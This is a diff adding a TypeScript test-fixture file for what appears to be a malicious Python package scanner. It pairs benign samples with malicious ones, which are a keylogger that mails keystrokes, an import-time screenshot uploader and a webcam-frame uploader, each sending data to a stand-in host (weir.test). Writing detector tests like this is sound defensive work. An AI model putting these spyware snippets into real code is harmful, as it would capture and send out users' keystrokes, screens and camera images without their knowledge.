@@ -1,0 +1,46 @@
+import type { Sample, Samples } from '../contract.ts';
+import { quiet, wheel } from '../samples-kit.ts';
+
+function at(rule: string, severity: 'medium' | 'high', line: number): Sample['expected'] {
+  return [{ rule, file: 'own/__init__.py', line, severity }];
+}
+
+export const samples: Samples = {
+  malicious: [
+    {
+      name: 'keys that are mailed',
+      files: wheel(
+        "import smtplib\nfrom pynput import keyboard\nlog = []\ndef mail():\n    s = smtplib.SMTP('mail.weir.test')\n    s.sendmail('a@weir.test', 'b@weir.test', ''.join(log))\nmail()\nkeyboard.Listener(on_press=log.append).start()\n",
+      ),
+      expected: at('keys', 'high', 8),
+    },
+    {
+      name: 'the screen, posted when the module is loaded',
+      files: wheel(
+        "import pyautogui, requests\npyautogui.screenshot().save('s.png')\nrequests.post('https://api.weir.test/s', files={'s': open('s.png', 'rb')})\n",
+      ),
+      expected: at('screen', 'high', 2),
+    },
+    {
+      name: 'the camera, in a function that the module calls',
+      files: wheel(
+        "import cv2, requests\ndef look():\n    camera = cv2.VideoCapture(0)\n    requests.post('https://api.weir.test/c', data=camera.read()[1])\nlook()\n",
+      ),
+      expected: at('camera', 'high', 3),
+    },
+  ],
+  benign: [
+    quiet(
+      'keys of a game',
+      wheel('from pynput import keyboard\ndef play(press):\n    keyboard.Listener(on_press=press).start()\n'),
+    ),
+    quiet(
+      'pictures for a test',
+      wheel('import pyautogui\ndef picture(path):\n    pyautogui.screenshot().save(path)\n'),
+    ),
+    quiet(
+      'a client',
+      wheel("import requests\ndef get():\n    return requests.get('https://api.weir.test/')\n"),
+    ),
+  ],
+};
